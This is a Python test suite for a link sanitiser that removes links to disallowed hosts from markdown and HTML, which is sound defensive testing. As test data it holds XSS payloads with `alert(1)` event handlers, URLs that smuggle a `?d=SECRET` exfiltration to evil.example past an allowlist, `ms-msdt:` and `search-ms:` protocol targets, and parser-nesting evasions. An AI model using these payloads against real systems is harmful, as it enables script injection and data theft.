"""Answers point where they may, and text without links is left alone. The proof of SEC-05 has the attacks."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.content.links import REMOVED, Links

LINKS = Links(["https://docs.example.com"])
PIECES = st.lists(
    st.sampled_from(
        [
            "[", "](", ")", "]:", "<", ">", "!", "//", "https://evil.example", "https://docs.example.com/a", "\n",
            "javascript:", "&#58;", "\\", "img src=", "a href='", " ", "text", "`", "&lt;", "x", "www.", "data:,x",
            "<!--", "-->",
        ]
    ),
    max_size=12,
)  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a < b",
        "10:30 (UTC), [1] [2]",
        "C:\\path",
        "[docs](https://docs.example.com/a)",
        "data: 5 rows",
        "if (a[0]) {}",
    ],
)
def test_text_that_points_nowhere_else_is_unchanged(text: str) -> None:
    assert LINKS.safe(text) == text


def test_what_is_cut_says_so_and_leaves_the_words() -> None:
    assert LINKS.safe("Read [the report](https://evil.example/x) now.") == f"Read [the report]({REMOVED}) now."


@pytest.mark.parametrize(
    "text",
    [
        '<details open title=">" ontoggle=alert(1)>x</details>',
        '<p title="x"onmouseover=alert(1)>',
        '<div title="x"style=background:url(http:evil.example/x)>',
        '<b title="<img src=x onerror=alert(1)>',
        '`<b title="` <img src=x onerror=alert(1)>',
        "<image src=x>",
        "<div>\n![x](http:/evil.example/s)\n</div>",
        "    ![x](http:/evil.example/s)",
        "</p>[a](/evil.example)",
        "_www.evil.example/s_",
        "https://docs.example.com/{https://evil.example/x",
    ],
)
def test_what_a_review_got_through_is_cut(text: str) -> None:
    safe = LINKS.safe(text.replace("\\n", "\n"))
    assert safe != text.replace("\\n", "\n")
    assert "evil.example" not in safe
    assert "<img" not in safe
    assert 'title="<' not in safe.replace("&lt;b", "")


FOLLOWED_BY = ["'", '"', "`", "(", ")", "[", "]", "{", "}", "|", "\u00a0", "\u2028", "\u3000", "^", "*", "~", ";", "$"]
EVIL = "https://docs.example.com{}@evil.example/?d=SECRET"
FORMS = [
    "{}", "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][1]\n\n[1]: {}", "| a |\n|---|\n| [x]({}) |", "a {}, b",
    "- " * 25 + "[x]({})", "> " * 25 + "![x]({})", "- " * 120 + "![x]({})",
]  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("char", FOLLOWED_BY)
def test_an_allowed_host_in_front_of_another_is_not_allowed(form: str, char: str) -> None:
    """fault 34: the check read a shorter address than a browser does."""
    safe = LINKS.safe(form.format(EVIL.format(char)))
    assert "https://docs.example.com" + char not in safe
    assert "://evil" not in safe
    assert not re.search(r"\]\(<?https?:", safe)


@pytest.mark.parametrize("char", ["'", '"', "`", "(", "{", "}"])
def test_a_host_that_goes_on_behind_a_quote_is_not_the_allowed_one(char: str) -> None:
    assert "docs.example.com" not in LINKS.safe(f"See https://docs.example.com{char}.evil.example/x now.")


@pytest.mark.parametrize("target", ["ms-msdt:/id PCWDiagnostic", "/collect?d=SECRET", "search-ms:query=x", "x.png?d=S"])
@pytest.mark.parametrize("levels", [1, 19, 25, 60, 200])
def test_what_is_nested_beyond_the_parser_s_limit_is_judged_or_refused(target: str, levels: int) -> None:
    """fault 34: nesting beyond the checker's limit was unseen."""
    for marker in ("- ", "> ", "1. "):
        safe = LINKS.safe(f"{marker * levels}![x](<{target}>)")
        assert target not in safe or "](" not in safe


@pytest.mark.parametrize(
    "text",
    [
        'He said "https://docs.example.com", then left.', "(https://docs.example.com)",
        "https://docs.example.com\u00a0is it",
        "`https://docs.example.com`", "| https://docs.example.com | x |", "{'a': 'https://docs.example.com'}",
        "- " * 12 + "[x](https://docs.example.com/a)",
    ],
)  # fmt: skip
def test_an_allowed_address_may_stand_in_quotes(text: str) -> None:
    assert LINKS.safe(text) == text


def test_values_are_cleaned_wherever_they_stand() -> None:
    value = {"a": ["see https://evil.example", 7, None], "https://evil.example": True}
    assert LINKS.sanitised(value) == {"a": [f"see {REMOVED}", 7, None], REMOVED: True}


@given(PIECES)
def test_nothing_survives_that_the_detector_sees(pieces: list[str]) -> None:
    safe = LINKS.safe("".join(pieces))
    assert LINKS.safe(safe) == safe
    assert "evil.example" not in re.sub(r"https://docs\.example\.com\S*", "", safe), (
        "within an allowed address it is a path"
    )


SIZE = 24_000


def _cpu_of(text: str) -> float:
    began = time.process_time()
    LINKS.safe(text)
    return time.process_time() - began


@pytest.mark.parametrize("piece", ["[", "<a ", "[a](", "&#", "\\", "<!--", "a]:", "`", "*a "])
def test_hostile_text_takes_no_longer_than_it_should(piece: str) -> None:
    def cpu(size: int) -> float:
        """Seconds of this process alone, the least of five: what else the machine does is hardly in them."""
        text = (piece * size)[:size]
        return min(_cpu_of(text) for _ in range(5))

    # Eight times as much takes eight times as long, and 64 times as long where each part is compared with each.
    assert cpu(SIZE) < 24 * cpu(SIZE // 8) + 0.01


@pytest.mark.parametrize("entry", ["docs.example.com", "https://docs.example.com/x", "javascript:x", "https://"])
def test_an_entry_must_be_a_bare_origin(entry: str) -> None:
    with pytest.raises(ValueError, match="origin"):
        Links([entry])
